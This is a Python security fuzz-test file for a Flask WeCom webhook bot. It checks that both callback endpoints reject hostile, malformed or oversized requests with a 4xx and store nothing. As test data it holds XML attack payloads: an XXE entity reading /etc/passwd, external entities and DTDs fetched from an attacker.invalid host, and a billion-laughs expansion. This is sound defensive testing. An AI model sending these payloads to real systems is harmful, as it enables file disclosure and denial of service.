"""The two callbacks under arbitrary requests: a 4xx and nothing stored, never a 5xx.

Through Werkzeug's test client (no sockets): arbitrary query strings, signatures and bodies;
bodies correctly signed and encrypted whose plaintext is garbage, hostile XML or a message that
almost parses; XML external entities and entity expansion, outside and inside the encryption;
bodies above ZTC_MAX_BODY_BYTES, refused (413) before they are read or parsed.
"""

from __future__ import annotations

import io
import json
from collections.abc import Iterator
from urllib.parse import quote

import pytest
from defusedxml.ElementTree import fromstring
from flask.testing import FlaskClient
from hypothesis import example, given
from hypothesis import strategies as st
from sqlalchemy import func, select

from bot import create_app
from bot.models import InboundMessage
from bot.runtime import Runtime
from bot.settings import Settings
from bot.wecom.crypto import CallbackCrypto
from bot.wecom.inbound import MalformedMessage, parse_aibot_message, parse_app_message
from tests.conftest import T0
from tests.fuzz.strategies import FUZZ, awkward_text, is_chinese
from tests.wecom.test_inbound import aibot_shaped, json_values, xml_documents

PATHS = ["/wecom/callback", "/wecom/aibot"]
PARAMS = ["msg_signature", "timestamp", "nonce", "echostr"]

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<xml><ToUserName>x</ToUserName><Encrypt>&xxe;</Encrypt></xml>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
<xml><Encrypt>AAAA</Encrypt></xml>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?><!DOCTYPE xml SYSTEM "http://attacker.invalid/x.dtd"><xml><Encrypt>AAAA</Encrypt></xml>"""
BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + b"".join(
        f' <!ENTITY lol{n} "{f"&lol{n - 1};" * 10 if n > 1 else "&lol;" * 10}">\n'.encode()
        for n in range(1, 10)
    )
    + b"]>\n<xml><Encrypt>&lol9;</Encrypt></xml>"
)
HOSTILE_XML = {
    "xxe": XXE,
    "parameter-entity": PARAMETER_ENTITY,
    "external-dtd": EXTERNAL_DTD,
    "billion-laughs": BILLION_LAUGHS,
}


class Hook:
    """The app's test client and what it runs on; shown briefly when hypothesis reports an example."""

    def __init__(self, client: FlaskClient, runtime: Runtime, settings: Settings) -> None:
        self.client, self.runtime, self.settings = client, runtime, settings

    def __repr__(self) -> str:
        return "<webhook>"

    def stored(self) -> int:
        """How many inbound messages are stored."""
        with self.runtime.session_factory() as session:
            return session.scalar(select(func.count()).select_from(InboundMessage)) or 0


@pytest.fixture
def hook(runtime: Runtime, settings: Settings) -> Iterator[Hook]:
    """The app on the test runtime (the county is not needed: nothing here should get that far)."""
    with create_app(runtime=runtime).test_client() as client:
        yield Hook(client, runtime, settings)


def app_crypto(settings: Settings) -> CallbackCrypto:
    return CallbackCrypto(settings.wecom_token, settings.wecom_aes_key, settings.wecom_corp_id)


def aibot_crypto(settings: Settings) -> CallbackCrypto:
    return CallbackCrypto(settings.aibot_token, settings.aibot_aes_key, "")


def assert_refused_and_nothing_stored(response, hook: Hook, before: int) -> None:
    assert 400 <= response.status_code < 500, (response.status_code, response.get_data()[:200])
    assert hook.stored() == before


# -- arbitrary requests -----------------------------------------------------------------------

query_values = awkward_text | st.sampled_from(["", "1700000000", "0" * 40, "a" * 5000, "%zz", "+/="])
queries = st.dictionaries(st.sampled_from(PARAMS) | awkward_text, query_values, max_size=6)
raw_queries = st.text(alphabet=st.sampled_from("abcz=&%+;#?/ 0123456789ABCDEF_\u597d"), max_size=80)
bodies = (
    st.binary(max_size=4096)
    | awkward_text.map(lambda t: t.encode("utf-8", "surrogatepass"))
    | st.sampled_from(list(HOSTILE_XML.values()))
    | st.builds(lambda inner: f"<xml><Encrypt>{inner}</Encrypt></xml>".encode(), awkward_text)
    | json_values.map(lambda v: json.dumps({"encrypt": v}).encode())
)


@FUZZ
@given(path=st.sampled_from(PATHS), query=queries, body=bodies)
@example(path="/wecom/callback", query={"msg_signature": "0" * 40, "timestamp": "1", "nonce": "n"}, body=XXE)
@example(
    path="/wecom/aibot", query={"msg_signature": "x", "timestamp": "1", "nonce": "n"}, body=b"[" * 100_000
)
def test_any_post_is_refused_with_4xx_and_stores_nothing(
    hook: Hook, path: str, query: dict[str, str], body: bytes
) -> None:
    before = hook.stored()
    encoded = "&".join(
        f"{quote(k, safe='')}={quote(v, safe='+/=')}" for k, v in query.items() if _encodable(k, v)
    )
    response = hook.client.post(f"{path}?{encoded}", data=body, content_type="text/xml")
    assert_refused_and_nothing_stored(response, hook, before)


@FUZZ
@given(
    path=st.sampled_from(PATHS),
    raw=raw_queries,
    body=st.binary(max_size=256),
    method=st.sampled_from(["GET", "POST"]),
)
def test_any_raw_query_string_is_refused_with_4xx(
    hook: Hook, path: str, raw: str, body: bytes, method: str
) -> None:
    before = hook.stored()
    response = hook.client.open(f"{path}?{raw}", method=method, data=body if method == "POST" else None)
    assert_refused_and_nothing_stored(response, hook, before)


@FUZZ
@given(path=st.sampled_from(PATHS), query=queries)
def test_any_url_check_is_refused_with_4xx(hook: Hook, path: str, query: dict) -> None:
    encoded = "&".join(
        f"{quote(k, safe='')}={quote(v, safe='')}" for k, v in query.items() if _encodable(k, v)
    )
    response = hook.client.get(f"{path}?{encoded}")
    assert 400 <= response.status_code < 500


def _encodable(*texts: str) -> bool:
    """Whether the texts can travel in a URL at all (lone surrogates cannot be UTF-8 encoded)."""
    try:
        for text in texts:
            text.encode("utf-8")
    except UnicodeEncodeError:
        return False
    return True


# -- correctly signed and encrypted, but the plaintext is not a message -------------------------

app_plaintexts = (
    st.text(max_size=512)
    | xml_documents
    | st.sampled_from([body.decode() for body in HOSTILE_XML.values()])
    | st.builds(
        lambda user: (
            f"<xml><FromUserName>{user}</FromUserName><CreateTime>1764000000</CreateTime>"
            "<MsgType>text</MsgType><Content>帮助</Content><MsgId>1</MsgId></xml>"
        ),
        st.text(alphabet="ab", min_size=60, max_size=80),
    )
)


@FUZZ
@given(plaintext=app_plaintexts)
@example(plaintext=XXE.decode())
@example(plaintext=BILLION_LAUGHS.decode())
@example(
    plaintext="<xml><FromUserName>" + "u" * 65 + "</FromUserName><CreateTime>1764000000</CreateTime>"
    "<MsgType>text</MsgType><Content>帮助</Content><MsgId>1</MsgId></xml>"
)  # a userid longer than WeCom's 64 bytes (and the column): once a 500 on PostgreSQL
def test_a_signed_app_callback_is_stored_only_if_it_parses(hook: Hook, plaintext: str) -> None:
    body, query = app_crypto(hook.settings).build_callback_body(
        plaintext, "n1", "1700000000", hook.settings.wecom_corp_id, 1
    )
    before = hook.stored()
    response = hook.client.post("/wecom/callback", query_string=query, data=body, content_type="text/xml")
    try:
        inbound = parse_app_message(plaintext)
    except MalformedMessage:
        assert_refused_and_nothing_stored(response, hook, before)
        return
    assert response.status_code == 200
    assert hook.stored() in (before, before + 1)  # the same dedup key twice is a retry
    if response.get_data():  # the passive answer opens, is addressed to the sender and speaks Chinese
        envelope = fromstring(response.get_data(), forbid_dtd=True)
        fields = [envelope.findtext(name) or "" for name in ("MsgSignature", "TimeStamp", "Nonce", "Encrypt")]
        answer = fromstring(app_crypto(hook.settings).decrypt(*fields), forbid_dtd=True)
        assert answer.findtext("ToUserName") == inbound.user_id
        assert is_chinese(answer.findtext("Content") or "")


aibot_plaintexts = (
    st.text(max_size=512)
    | json_values.map(json.dumps)
    | aibot_shaped
    | st.builds(
        lambda userid, content: json.dumps(
            {"msgid": "m1", "from": {"userid": userid}, "msgtype": "text", "text": {"content": content}}
        ),
        st.text(max_size=80),
        st.text(max_size=40),
    )
)


@FUZZ
@given(plaintext=aibot_plaintexts)
@example(
    plaintext=json.dumps(
        {"msgid": "m\x00", "from": {"userid": "u"}, "msgtype": "text", "text": {"content": "帮助"}}
    )
)
@example(
    plaintext=json.dumps(
        {"msgid": "m1", "from": {"userid": "u\x00"}, "msgtype": "text", "text": {"content": "帮助"}}
    )
)
@example(
    plaintext=json.dumps(
        {"msgid": "m2", "from": {"userid": "u" * 65}, "msgtype": "text", "text": {"content": "帮助"}}
    )
)
def test_a_signed_aibot_callback_is_stored_only_if_it_parses(hook: Hook, plaintext: str) -> None:
    body, query = aibot_crypto(hook.settings).build_json_callback_body(plaintext, "n1", "1700000000")
    before = hook.stored()
    response = hook.client.post(
        "/wecom/aibot", query_string=query, data=body, content_type="application/json"
    )
    try:
        parse_aibot_message(plaintext, T0)
    except MalformedMessage:
        assert_refused_and_nothing_stored(response, hook, before)
        return
    assert response.status_code == 200
    assert hook.stored() in (before, before + 1)
    if response.get_data():  # the passive answer opens and speaks Chinese
        envelope = json.loads(response.get_data())
        fields = [envelope[name] for name in ("msgsignature", "timestamp", "nonce", "encrypt")]
        answer = json.loads(aibot_crypto(hook.settings).decrypt(*fields))
        assert is_chinese(json.dumps(answer, ensure_ascii=False))


# -- XML entities, explicitly -------------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(HOSTILE_XML))
def test_entity_tricks_in_the_body_are_refused(hook: Hook, name: str) -> None:
    body = HOSTILE_XML[name]
    encrypt = app_crypto(hook.settings).encrypt("<xml/>", "n1", "1700000000")[0]
    # Signed over what a naive parser would have read, so only the DTD refusal stands in the way.
    signature = app_crypto(hook.settings).signature("1700000000", "n1", encrypt)
    query = {"msg_signature": signature, "timestamp": "1700000000", "nonce": "n1"}
    response = hook.client.post("/wecom/callback", query_string=query, data=body, content_type="text/xml")
    assert response.status_code == 400
    assert b"root:" not in response.get_data() and b"lol" not in response.get_data()
    assert hook.stored() == 0


@pytest.mark.parametrize("name", sorted(HOSTILE_XML))
def test_entity_tricks_inside_the_encryption_are_refused(hook: Hook, name: str) -> None:
    plaintext = HOSTILE_XML[name].decode().replace("<Encrypt>", "<FromUserName>u</FromUserName><Content>")
    body, query = app_crypto(hook.settings).build_callback_body(
        plaintext, "n1", "1700000000", hook.settings.wecom_corp_id, 1
    )
    response = hook.client.post("/wecom/callback", query_string=query, data=body, content_type="text/xml")
    assert response.status_code == 400
    assert hook.stored() == 0


def test_deeply_nested_json_is_refused(hook: Hook) -> None:
    body, query = aibot_crypto(hook.settings).build_json_callback_body(
        "[" * 10_000 + "]" * 10_000, "n1", "1700000000"
    )
    response = hook.client.post(
        "/wecom/aibot", query_string=query, data=body, content_type="application/json"
    )
    assert response.status_code == 400 and hook.stored() == 0


# -- the size limit, before anything is read ------------------------------------------------------


@pytest.fixture
def spy(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Records every call of the crypto's body readers (a refused body must never reach them)."""
    calls: list[str] = []
    for name in ("decrypt_xml_body", "decrypt_json_body"):
        real = getattr(CallbackCrypto, name)

        def recording(self, *args, _real=real, _name=name, **kwargs):
            calls.append(_name)
            return _real(self, *args, **kwargs)

        monkeypatch.setattr(CallbackCrypto, name, recording)
    return calls


def body_of(size: int) -> bytes:
    """An XML callback body of exactly `size` bytes."""
    head, tail = b"<xml><Encrypt>", b"</Encrypt></xml>"
    return head + b"A" * (size - len(head) - len(tail)) + tail


QUERY = {"msg_signature": "0" * 40, "timestamp": "1700000000", "nonce": "n1"}


@pytest.mark.parametrize("path", PATHS)
@pytest.mark.parametrize("over", [1, 1000])
def test_a_body_over_the_limit_is_refused_with_413_before_it_is_parsed(
    hook: Hook, spy: list[str], path: str, over: int
) -> None:
    response = hook.client.post(path, query_string=QUERY, data=body_of(hook.settings.max_body_bytes + over))
    assert response.status_code == 413
    assert spy == [] and hook.stored() == 0


@pytest.mark.parametrize("path", PATHS)
def test_a_huge_announced_body_is_refused_without_reading_it(hook: Hook, spy: list[str], path: str) -> None:
    class Unreadable(io.RawIOBase):
        def read(self, size: int = -1) -> bytes:
            raise AssertionError("the body was read")

    unread = {"wsgi.input": Unreadable(), "CONTENT_LENGTH": "10000000"}
    response = hook.client.post(path, query_string=QUERY, environ_overrides=unread)
    assert response.status_code == 413
    assert spy == [] and hook.stored() == 0


@pytest.mark.parametrize("path", PATHS)
def test_a_body_at_the_limit_is_read(hook: Hook, spy: list[str], path: str) -> None:
    response = hook.client.post(path, query_string=QUERY, data=body_of(hook.settings.max_body_bytes))
    assert len(spy) == 1 and 400 <= response.status_code < 500 and response.status_code != 413


@pytest.mark.parametrize(
    "environ",
    [
        {"HTTP_TRANSFER_ENCODING": "chunked", "wsgi.input_terminated": True},
        {"CONTENT_LENGTH": ""},
        {"CONTENT_LENGTH": "-1"},
        {"CONTENT_LENGTH": "abc"},
        {"CONTENT_LENGTH": "1e3"},
        {"CONTENT_LENGTH": "0"},
    ],
    ids=["chunked", "empty", "negative", "letters", "exponent", "zero"],
)
def test_a_body_without_a_usable_length_is_refused(hook: Hook, environ: dict) -> None:
    # Werkzeug reads an unusable Content-Length as 0: nothing of the body is read; an empty body is refused.
    response = hook.client.post(
        "/wecom/callback", query_string=QUERY, input_stream=io.BytesIO(b"<xml/>"), environ_overrides=environ
    )
    assert 400 <= response.status_code < 500
    assert hook.stored() == 0
